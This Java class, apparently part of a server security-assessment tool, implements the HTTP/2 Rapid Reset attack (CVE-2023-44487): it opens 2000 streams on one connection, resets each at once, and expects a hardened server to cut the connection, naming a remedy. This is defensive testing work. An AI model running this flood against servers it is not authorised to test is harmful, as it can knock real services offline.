package dev.countersign.assessment;

import java.io.IOException;
import java.security.GeneralSecurityException;

/** Opens streams and resets them at once, again and again. */
final class RapidReset extends Abuse {
  private static final int BATCHES = 40;
  private static final int PER_BATCH = 50;

  RapidReset() {
    super(About.of("rapid-reset", Group.PROTOCOL, Severity.HIGH)
        .tries("2000 requests on one connection, each reset in the same breath.")
        .safe("The connection is ended long before all were sent.")
        .source("CVE-2023-44487")
        .remedy("Bound the resets of a connection (grpc-java: maxRstFramesPerWindow)."));
  }

  @Override
  boolean isToBeBrokenOff() {
    return true;
  }

  @Override
  Outcome misbehave(Attack attack)
      throws IOException, GeneralSecurityException, InterruptedException, CannotRunException {
    try (RawHttp2 connection = attack.connect()) {
      Flood.Ending ending = Flood.of(connection, BATCHES, (to, number) -> {
        for (int i = 0; i < PER_BATCH; i++) {
          int stream = to.newStream();
          to.request(stream, attack.path()).reset(stream);
        }
      });
      return ending.mustBeCut(BATCHES * PER_BATCH + " requests that were reset at once");
    }
  }
}
